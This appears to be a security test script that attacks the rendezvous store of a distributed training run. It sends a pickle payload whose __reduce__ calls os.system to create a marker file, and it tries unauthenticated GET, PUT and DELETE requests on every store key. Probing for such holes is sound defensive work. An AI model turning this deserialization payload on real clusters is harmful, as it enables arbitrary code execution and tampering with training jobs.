"""A foreign process that attacks the rendezvous of a training: attack.py HOST PORT.

It needs nothing but Python's standard library. It waits until rank 0 listens, tries to read and to
write what the ranks exchange there, and prints every answer that it got.
"""

import http.client
import itertools
import json
import os
import pickle
import sys
import time

SECONDS_TO_WAIT = 120


class Evil:
    """An object that runs code where it is unpickled."""

    def __reduce__(self):
        return os.system, ("touch /tmp/code_of_the_attack_ran",)


def answer(host, port, method, path):
    """Return the status and the content of the answer to one request."""
    connection = http.client.HTTPConnection(host, port, timeout=30)
    connection.request(method, path, body=pickle.dumps(Evil()))
    reply = connection.getresponse()
    return reply.status, reply.read().decode()


def main():
    """Attack until every request was answered once."""
    host, port = sys.argv[1], int(sys.argv[2])
    deadline = time.monotonic() + SECONDS_TO_WAIT
    answers = []
    for scope, key, method in itertools.product(
        ("meeting", "global_", "local_node0", "cross_0", "torch"), "0123", ("GET", "PUT", "DELETE")
    ):
        while True:
            try:
                answers.append(answer(host, port, method, f"/{scope}/{key}"))
                break
            except OSError:
                # Rank 0 does not listen yet, or has already ended: then this attack came too late.
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.05)
    print(json.dumps(answers))


main()
